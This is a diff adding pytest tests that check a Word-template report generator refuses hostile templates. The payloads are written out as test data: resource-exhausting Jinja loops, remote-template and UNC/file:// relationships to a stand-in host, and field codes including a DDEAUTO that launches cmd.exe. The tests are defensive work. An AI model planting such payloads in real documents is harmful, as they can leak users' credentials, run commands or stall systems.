@@ -4,12 +4,15 @@ from __future__ import annotations
 
 import csv
 import io
+import resource
+import zipfile
 from datetime import date
 from pathlib import Path
 
 import docx
 import pytest
 from docx.document import Document as Word
+from docx.oxml import OxmlElement
 from python_calamine import CalamineWorkbook
 
 from generator import load
@@ -152,6 +155,114 @@ def test_a_template_can_run_nothing(text: str, office: Path, tmp_path: Path) -> 
     site, _wrong = load(office)
     with pytest.raises(NotReadable):
         list(write_report(office, site, site.duties[DUTY], Period.parse("2026"), TODAY, tmp_path, ["docx"], _))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
+        "{{ ('a' * 3000000000) | length }}",
+        "{% for a in range(99999) %}{{ 'a' * 99999 }}{% endfor %}",
+    ],
+    ids=["time", "memory", "length"],
+)
+def test_a_template_cannot_take_the_machine(text: str, office: Path, tmp_path: Path) -> None:
+    """The system ends it: the command says so, and writes nothing."""
+    word = docx.Document()
+    word.add_paragraph(text)
+    word.save(str(copy_template(office)))
+    began = resource.getrusage(resource.RUSAGE_CHILDREN)
+    said = refused(office, tmp_path)
+    after = resource.getrusage(resource.RUSAGE_CHILDREN)
+    assert said == "data/templates/bao-cao.docx cannot be filled: it needs more memory or time than a report may"
+    assert after.ru_utime + after.ru_stime - began.ru_utime - began.ru_stime < 30
+    assert after.ru_maxrss < 2 * 1024 * 1024  # KB; less than what the system lets it have
+
+
+def refused(office: Path, to: Path) -> str:
+    """Why the report is not written."""
+    site, _wrong = load(office)
+    with pytest.raises(NotReadable) as problem:
+        list(write_report(office, site, site.duties[DUTY], Period.parse("2026"), TODAY, to, ["docx"], _))
+    assert not list(to.glob("*.docx"))
+    return str(problem.value.why)
+
+
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+@pytest.mark.parametrize(
+    ("part", "kind", "target"),
+    [
+        ("word/settings.xml", "attachedTemplate", "https://elsewhere.example/mau.dotm"),
+        ("word/document.xml", "image", "https://elsewhere.example/dem.png"),
+        ("word/document.xml", "frame", "https://elsewhere.example/khung.docx"),
+        ("word/document.xml", "oleObject", "file://elsewhere.example/c"),
+        ("word/document.xml", "hyperlink", "file://elsewhere.example/c"),
+        ("word/document.xml", "hyperlink", "\\\\elsewhere.example\\c"),
+    ],
+)
+def test_a_template_has_word_fetch_nothing(part: str, kind: str, target: str, office: Path, tmp_path: Path) -> None:
+    """Whoever opens the report would tell another server so, or send it the words they sign in with."""
+    copied = copy_template(office)
+    assert copied
+    folder, _slash, name = part.rpartition("/")
+    relation = f'<Relationship Id="ra" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
+    add_relation(copied, f"{folder}/_rels/{name}.rels", relation)
+    said = refused(office, tmp_path)
+    assert said.startswith("data/templates/bao-cao.docx cannot be filled: Word would fetch ")
+    assert target in said
+
+
+def add_relation(file: Path, part: str, relation: str) -> None:
+    """Put a relation into a part of a Word file."""
+    with zipfile.ZipFile(file) as packed:
+        parts = {name: packed.read(name).decode("latin-1") for name in packed.namelist()}
+    before = parts.get(part, f'<Relationships xmlns="{PACKAGE}"></Relationships>')
+    parts[part] = before.replace("</Relationships>", f"{relation}</Relationships>")
+    with zipfile.ZipFile(file, "w") as packed:
+        for name, content in parts.items():
+            packed.writestr(name, content.encode("latin-1"))
+
+
+PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+@pytest.mark.parametrize(
+    ("pieces", "fine"),
+    [
+        ((' INCLUDEPICTURE "https://elsewhere.example/dem.png"',), False),
+        ((" INCLUDE", 'TEXT "https://elsewhere.example/a.docx"'), False),
+        ((' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',), False),
+        ((' LINK Excel.Sheet.8 "https://elsewhere.example/a.xlsx"',), False),
+        ((" PAGE ",), True),
+        ((' HYPERLINK "https://so.example/" ',), True),
+    ],
+)
+def test_fields_of_a_template(pieces: tuple[str, ...], fine: bool, office: Path, tmp_path: Path) -> None:
+    """Numbers of pages are fine; what reads another file is not, also where Word cut it into pieces."""
+    word = docx.Document()
+    for piece in pieces:
+        field = OxmlElement("w:instrText")
+        field.text = piece
+        word.add_paragraph("Trang ").add_run()._r.append(field)
+    word.save(str(copy_template(office)))
+    if not fine:
+        assert "Word would fetch " in refused(office, tmp_path)
+        return
+    site, _wrong = load(office)
+    assert list(write_report(office, site, site.duties[DUTY], Period.parse("2026"), TODAY, tmp_path, ["docx"], _))
+
+
+def test_links_of_a_template_stay(office: Path, tmp_path: Path) -> None:
+    """An office may lead to its own site: nothing is fetched before somebody follows the link."""
+    copied = copy_template(office)
+    assert copied
+    link = f'<Relationship Id="ra" Type="{RELATIONS}/hyperlink" Target="https://so.example/" TargetMode="External"/>'
+    add_relation(copied, "word/_rels/document.xml.rels", link)
+    site, _wrong = load(office)
+    (file,) = write_report(office, site, site.duties[DUTY], Period.parse("2026"), TODAY, tmp_path, ["docx"], _)
+    assert [each.target_ref for each in docx.Document(str(file)).part.rels.values() if each.is_external]
 
 
 def test_a_template_that_is_none(office: Path, tmp_path: Path) -> None:
